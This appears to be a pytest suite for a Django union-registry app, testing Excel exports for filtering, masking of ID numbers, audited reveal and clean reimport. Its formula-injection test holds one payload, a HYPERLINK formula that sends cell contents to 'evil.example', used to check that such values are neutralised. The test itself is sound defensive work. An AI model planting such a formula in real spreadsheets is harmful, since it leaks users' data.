"""Exports: what each list page shows (its filters, the user's scope) as .xlsx in the importers'
columns, masked unless revealed with a right and a reason, audited, safe against formula
injection, and importing back unchanged; the dashboard's table in its own layout."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from urllib.parse import quote

import pytest
from django.contrib.auth import get_user_model
from django.db.models import Exists, OuterRef
from django.test import Client
from openpyxl import load_workbook

from jianhui import statistics
from jianhui.accounts.models import Role
from jianhui.audit.models import Action, AuditEvent
from jianhui.dashboard.views import table_rows
from jianhui.enterprises.models import Enterprise, OperatingStatus
from jianhui.imports.kinds.enterprises import EnterpriseImporter
from jianhui.imports.kinds.members import MemberImporter
from jianhui.imports.kinds.unions import UnionImporter
from jianhui.imports.services import import_file
from jianhui.lib.xlsx import content_disposition, display_width, needs_quote
from jianhui.regions.models import Jurisdiction
from jianhui.unions.models import Coverage, Member, UnionOrganisation

AS_OF = "2023-09-29"
ON = dt.date(2023, 9, 29)
ID_PATTERN = re.compile(r"\d{17}[\dX]")


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def download(response) -> bytes:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    return b"".join(response.streaming_content)


def sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets[0]


def rows_of(ws, header_row: int = 1) -> list[dict]:
    values = list(ws.iter_rows(values_only=True))
    header = values[header_row - 1]
    return [dict(zip(header, row, strict=True)) for row in values[header_row:]]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def reimport(tmp_path, kind: str, data: bytes):
    path = tmp_path / f"{kind}.xlsx"
    path.write_bytes(data)
    return import_file(kind, path, user="test")


def reveal(client: Client, url: str, params: dict, reason: str = "核对会员实名制台账"):
    query = "&".join(f"{k}={quote(str(v))}" for k, v in {**params, "export": "xlsx"}.items())
    return client.post(f"{url}?{query}", {"reveal": "1", "reason": reason})


@pytest.fixture
def county(demo):
    return demo


# --------------------------------------------------------------- the file itself

def test_enterprise_export_is_a_proper_workbook(admin_client):
    response = admin_client.get("/enterprises/", {"as_of": AS_OF, "export": "xlsx"})
    data = download(response)
    assert response["Content-Disposition"] == (
        "attachment; filename=\"2023-09-29.xlsx\"; "
        f"filename*=utf-8''{quote('企业名录_2023-09-29.xlsx')}")
    ws = sheet(data)
    header = [c.value for c in ws[1]]
    # The importer's columns; a masked column says so (and is then not imported).
    assert header == [n + ("（已脱敏）" if n == "联系电话" else "")
                      for n in EnterpriseImporter.columns.names]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:P{ws.max_row}"
    widths = {c: ws.column_dimensions[c].width for c in "ABCDEFGHIJKLMNO"}
    assert all(6 <= w <= 50 for w in widths.values()), widths
    # Computed from content, CJK counting double: names are wider than head counts.
    assert widths["A"] > widths["F"] and widths["B"] >= 20
    listed = admin_client.get("/enterprises/", {"as_of": AS_OF}).context["page"].paginator.count
    assert ws.max_row - 1 == listed == 164  # every matching row, not one page of 50
    first = ws[2]
    code, founded = first[header.index("统一社会信用代码")], first[header.index("成立日期")]
    assert code.data_type == "s" and code.number_format == "@"
    assert isinstance(founded.value, dt.datetime) and founded.number_format == "yyyy-mm-dd"
    assert isinstance(first[header.index("职工人数")].value, int)


def test_display_width_and_formula_triggers():
    assert display_width("中江县") == 6 and display_width("abc") == 3
    assert display_width("ＡＢ") == 4  # full-width letters are double too
    assert [needs_quote(v) for v in ("=1+1", "+86", "-3", "@SUM(A1)", "\tx", "\rx")] == [True] * 6
    assert not any(needs_quote(v) for v in ("张三", "1-2", "a=b", 5, None))
    assert content_disposition('a/b:c*?"<>|.xlsx').endswith(quote("a_b_c______.xlsx"))


# --------------------------------------------------------------- filters and scope

def test_gaoxin_exports_only_its_own_enterprises(gaoxin_client):
    gaoxin = Jurisdiction.objects.get(code="510623400")
    ws = sheet(download(gaoxin_client.get("/enterprises/", {"all": "1", "export": "xlsx"})))
    codes = {r["统一社会信用代码"] for r in rows_of(ws)}
    expected = set(Enterprise.objects.filter(jurisdiction__path__startswith=gaoxin.path)
                   .values_list("credit_code", flat=True))
    assert codes == expected and len(codes) < Enterprise.objects.count()
    # Another area's jurisdiction as a filter is not found, for the page and the export alike.
    assert gaoxin_client.get("/enterprises/", {"jurisdiction": "510623401",
                                               "export": "xlsx"}).status_code == 404


def test_status_filter_applies_to_the_export(admin_client):
    params = {"as_of": AS_OF, "status": "not_unionized", "export": "xlsx"}
    exported = rows_of(sheet(download(admin_client.get("/enterprises/", params))))
    # 164 enterprises, 161 unionized on the seed's reference date.
    assert len(exported) == 3
    covered = Coverage.objects.active(ON).filter(enterprise=OuterRef("pk"))
    uncovered = set(Enterprise.objects.in_scope(ON).exclude(Exists(covered))
                    .values_list("credit_code", flat=True))
    assert {r["统一社会信用代码"] for r in exported} == uncovered


def test_union_kind_filter_applies(admin_client):
    ws = sheet(download(admin_client.get(
        "/unions/", {"as_of": AS_OF, "kind": "federation", "export": "xlsx"})))
    rows = rows_of(ws)
    assert [c.value for c in ws[1]] == [n + ("（已脱敏）" if n == "联系电话" else "")
                                        for n in UnionImporter.columns.names]
    assert len(rows) == 3 and {r["组织类型"] for r in rows} == {"工会联合会"}
    for r in rows:  # the enterprises each federation covers on that day, joined with 、
        org = UnionOrganisation.objects.get(name=r["工会名称"], kind="federation")
        codes = set(Coverage.objects.active(ON).filter(organisation=org)
                    .values_list("enterprise__credit_code", flat=True))
        assert set(r["覆盖企业信用代码"].split("、")) == codes and len(codes) >= 2


# --------------------------------------------------------------- masking, reveal, audit

def test_members_are_masked_by_default_and_the_export_is_audited(few_members, admin_client):
    before = AuditEvent.objects.count()
    data = download(admin_client.get("/members/", {"as_of": AS_OF, "export": "xlsx"}))
    rows = rows_of(sheet(data))
    assert len(rows) == Member.objects.active(ON).count() > 1000
    assert list(rows[0]) == ["姓名", "公民身份号码（已脱敏）", "手机号码（已脱敏）", "所在企业信用代码",
                             "入会日期", "离会日期"]
    assert all(re.fullmatch(r"\d{6}\*{8}\d{3}[\dX]", r["公民身份号码（已脱敏）"]) for r in rows)
    assert all(r["手机号码（已脱敏）"] is None or "****" in r["手机号码（已脱敏）"] for r in rows)
    assert not ID_PATTERN.search(sheet_xml(data))  # no full ID number anywhere in the file
    assert AuditEvent.objects.count() == before + 1
    event = AuditEvent.objects.latest("at")
    assert (event.action, event.username, event.model) == (Action.EXPORT, "admin", "unions.Member")
    assert event.detail == {"rows": len(rows), "filters": {"as_of": AS_OF}, "revealed": False}


def test_reveal_needs_a_reason_then_shows_full_numbers_and_is_audited(admin_client):
    before = AuditEvent.objects.count()
    missing = reveal(admin_client, "/members/", {"as_of": AS_OF}, reason="  ")
    assert missing.status_code == 200 and "html" in missing["Content-Type"]
    html = missing.content.decode()
    assert "请填写导出理由" in html and "<details class=\"export\" open>" in html
    assert AuditEvent.objects.count() == before  # nothing exported, nothing logged
    e = Enterprise.objects.filter(members__isnull=False).order_by("name").first()
    response = reveal(admin_client, "/members/", {"enterprise": e.credit_code, "status": "all"})
    assert quote("会员名单_" + e.name) in response["Content-Disposition"]
    rows = rows_of(sheet(download(response)))
    members = Member.objects.filter(enterprise=e)
    assert {r["公民身份号码"] for r in rows} == {m.id_number for m in members}
    assert {r["手机号码"] or "" for r in rows} == {m.phone for m in members}
    event = AuditEvent.objects.latest("at")
    assert event.reason == "核对会员实名制台账" and event.detail["revealed"] is True
    assert event.detail["rows"] == members.count()
    assert event.detail["filters"] == {"enterprise": e.credit_code, "status": "all"}


def test_a_get_never_reveals(few_members, admin_client):
    data = download(admin_client.get("/members/", {"export": "xlsx", "reveal": "1",
                                                   "reason": "想看", "status": "all"}))
    assert not ID_PATTERN.search(sheet_xml(data))


def test_reveal_needs_the_right(few_members, county, user_in):
    leader = client_for(user_in(county, Role.COUNTY_LEADER))  # may export, may not reveal
    page = leader.get("/members/").content.decode()
    assert "导出 Excel" in page and "导出完整号码" not in page and 'name="reveal"' not in page
    assert leader.get("/members/", {"export": "xlsx"}).status_code == 200
    assert reveal(leader, "/members/", {}).status_code == 403


def test_reveal_post_needs_the_csrf_token(few_members, county):
    client = Client(enforce_csrf_checks=True)
    client.force_login(get_user_model().objects.get(username="admin"))
    assert reveal(client, "/members/", {}).status_code == 403
    page = client.get("/members/")
    token = page.cookies["csrftoken"].value
    ok = client.post("/members/?export=xlsx", {"reveal": "1", "reason": "核对",
                                               "csrfmiddlewaretoken": token})
    assert ok.status_code == 200 and ID_PATTERN.search(sheet_xml(download(ok)))


@pytest.mark.parametrize("url", ["/enterprises/", "/unions/", "/members/", "/"])
def test_no_export_without_the_right(county, user_in, url):
    auditor = client_for(user_in(county, Role.AUDITOR))
    before = AuditEvent.objects.count()
    refused = 302 if url == "/" else 403  # the auditor's home is the audit log
    assert auditor.get(url, {"export": "xlsx"}).status_code == refused
    assert auditor.post(f"{url}?export=xlsx", {"reveal": "1", "reason": "x"}).status_code == refused
    assert AuditEvent.objects.count() == before
    if url == "/":
        return
    page = auditor.get(url)
    assert page.status_code == 200 and "导出 Excel" not in page.content.decode()


def test_no_export_button_for_an_empty_list(admin_client):
    html = admin_client.get("/members/", {"q": "不存在的人"}).content.decode()
    assert "没有符合条件的会员" in html and "导出 Excel" not in html


def test_export_buttons_for_officers(gaoxin_client):
    for url in ("/enterprises/", "/unions/", "/members/"):
        html = gaoxin_client.get(url).content.decode()
        assert "导出 Excel" in html and 'name="reason"' in html and "csrfmiddlewaretoken" in html



def test_dashboard_export_button(few_members, admin_client):
    html = admin_client.get("/", {"as_of": AS_OF}).content.decode()
    assert 'href="?as_of=2023-09-29&amp;export=xlsx"' in html


# --------------------------------------------------------------- formula injection

def test_formula_like_names_come_out_as_text_and_import_back(admin_client, build, county,
                                                             tmp_path):
    gaoxin = Jurisdiction.objects.get(code="510623400")
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+86 13800000000 贸易行",
             "-减号实业有限公司", "@SUM(1+1)公司"]
    firms = [build.enterprise(gaoxin, name=n, employees=5, founded_on=dt.date(2021, 1, 1))
             for n in names]
    firms[1].legal_representative = "=1+1"
    firms[1].save()
    data = download(reveal(admin_client, "/enterprises/", {"q": "", "all": "1"}))
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # no formula element at all
    ws = sheet(data)
    by_name = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    for firm in firms:
        cell = by_name[firm.name][0]
        assert cell.data_type == "s" and cell.quotePrefix, firm.name
    rep = by_name[names[1]][EnterpriseImporter.columns.names.index("法定代表人")]
    assert rep.value == "=1+1" and rep.data_type == "s" and rep.quotePrefix
    report = reimport(tmp_path, "enterprises", data)
    assert report.errors == [] and report.created == report.updated == 0
    for firm in firms:
        firm.refresh_from_db()
    assert [f.name for f in firms] == names and firms[1].legal_representative == "=1+1"


# --------------------------------------------------------------- round trips

def _versions(model) -> dict:
    return dict(model.objects.values_list("pk", "version"))


def test_enterprises_round_trip(admin_client, tmp_path):
    # A suspended and a revoked enterprise too: their status words must import back.
    live = Enterprise.objects.filter(deregistered_on__isnull=True).order_by("pk")
    live.filter(pk=live[0].pk).update(status=OperatingStatus.SUSPENDED, scale_override="large")
    live.filter(pk=live[1].pk).update(status=OperatingStatus.REVOKED, female_employees=None,
                                      revoked_on=dt.date(2024, 3, 1))
    assert Enterprise.objects.filter(status=OperatingStatus.DEREGISTERED).exists()
    before = _versions(Enterprise)
    data = download(reveal(admin_client, "/enterprises/", {"all": "1"}))
    assert [c.value for c in sheet(data)[1]] == list(EnterpriseImporter.columns.names)
    report = reimport(tmp_path, "enterprises", data)
    assert report.errors == []
    assert report.rows == report.unchanged == Enterprise.objects.count()
    assert _versions(Enterprise) == before


def test_unions_round_trip(admin_client, tmp_path):
    before = _versions(UnionOrganisation), Coverage.objects.count()
    data = download(reveal(admin_client, "/unions/", {"all": "1", "as_of": AS_OF}))
    assert [c.value for c in sheet(data)[1]] == list(UnionImporter.columns.names)
    report = reimport(tmp_path, "unions", data)
    assert report.errors == []
    assert report.rows == report.unchanged == UnionOrganisation.objects.count()
    assert (_versions(UnionOrganisation), Coverage.objects.count()) == before


def test_revealed_members_round_trip(few_members, admin_client, tmp_path):
    before = _versions(Member)
    data = download(reveal(admin_client, "/members/", {"status": "all"}))
    ws = sheet(data)
    assert [c.value for c in ws[1]] == list(MemberImporter.columns.names)
    report = reimport(tmp_path, "members", data)
    assert report.errors == []
    assert report.rows == report.unchanged == Member.objects.count()
    assert _versions(Member) == before


def test_masked_exports_never_import_masked_numbers(admin_client, tmp_path):
    e = Enterprise.objects.filter(members__isnull=False).order_by("name").first()
    data = download(admin_client.get("/members/", {"enterprise": e.credit_code,
                                                   "export": "xlsx"}))
    report = reimport(tmp_path, "members", data)  # the ID column is marked, so it is missing
    assert not report.written and "缺少必填列「公民身份号码」" in report.errors[0].message
    # The enterprises importer ignores the marked phone column: phones stay as they are.
    phones = dict(Enterprise.objects.values_list("pk", "phone"))
    data = download(admin_client.get("/enterprises/", {"all": "1", "export": "xlsx"}))
    assert "联系电话（已脱敏）" in [c.value for c in sheet(data)[1]]
    report = reimport(tmp_path, "enterprises", data)
    assert report.errors == [] and report.unchanged == report.rows == len(phones)
    assert dict(Enterprise.objects.values_list("pk", "phone")) == phones


# --------------------------------------------------------------- the statistics table

def test_statistics_table_exports_in_the_dashboard_layout(few_members, admin_client):
    page = admin_client.get("/", {"as_of": AS_OF})
    response = admin_client.get("/", {"as_of": AS_OF, "export": "xlsx"})
    assert quote("建会入会统计_中江县_2023-09-29.xlsx") in response["Content-Disposition"]
    ws = sheet(download(response))
    values = list(ws.iter_rows(values_only=True))
    heading = "四川省德阳市中江县建会入会情况"  # the dashboard's own heading, plus the date
    assert heading in page.content.decode()
    assert values[0][0] == f"{heading}（截至2023年9月29日）" and ws["A1"].font.bold
    assert values[1] == ("辖区", "企业", "已建会", "单独建会", "联合建会", "未建会", "建会率",
                         "基层工会委员会", "联合基层工会", "工会联合会", "职工", "已建会企业职工",
                         "会员", "入会率", "应单独建会")
    assert ws.freeze_panes == "A3" and ws.auto_filter.ref is None  # 合计 stays last
    children = page.context["children"]
    assert [v[0] for v in values[2:-1]] == [r.jurisdiction.name for r in children]
    html = page.content.decode()
    for row, r in zip(ws.iter_rows(min_row=3), children, strict=False):
        f = r.figures
        assert [c.value for c in row[1:6]] == [f.enterprises, f.unionized, f.standalone,
                                               f.covered, f.not_unionized]
        shown = f"{row[6].value * 100:.1f}%"
        assert shown in html and row[6].number_format == "0.0%"
        assert row[10].number_format == "#,##0"
    total = [c for c in ws[ws.max_row]]
    assert [c.value for c in total[:3]] == ["合计", 164, 161] and total[0].font.bold
    assert f"{total[6].value:.3f}" == "0.982"  # 98.2% as shown, a number Excel can sum
    assert AuditEvent.objects.latest("at").detail["filters"] == {"as_of": AS_OF}


def test_statistics_export_of_an_area_without_lower_levels(few_members, gaoxin_client):
    ws = sheet(download(gaoxin_client.get("/", {"as_of": AS_OF, "export": "xlsx"})))
    assert ws["A1"].value == "中江高新技术产业园区建会入会情况（截至2023年9月29日）"
    gaoxin = Jurisdiction.objects.get(code="510623400")
    figures = statistics.totals(ON, gaoxin)
    # No rows below the area (the dashboard shows none either), only its total.
    assert [c.value for c in ws[3][:3]] == ["合计", figures.enterprises, figures.unionized]
    assert ws.max_row == 3


def test_statistics_rows_are_indented_by_level(few_members, admin_client, build):
    ws = sheet(download(admin_client.get("/", {"as_of": AS_OF, "export": "xlsx"})))
    assert all(row[0].alignment.indent == 0 for row in ws.iter_rows(min_row=3))
    root = build.jurisdiction("测试县")
    town = build.jurisdiction("甲镇", root)
    build.jurisdiction("甲村", town)
    build.enterprise(town, founded_on=dt.date(2020, 1, 1))
    table = statistics.table(ON, root, depth=2)
    rows = list(table_rows(root, table.rows[1:], table.total))
    assert [(r[0].value, r[0].indent, getattr(r[1], "value", r[1])) for r in rows] == [
        ("甲镇", 0, 1), ("甲村", 1, 0), ("合计", 0, 1)]
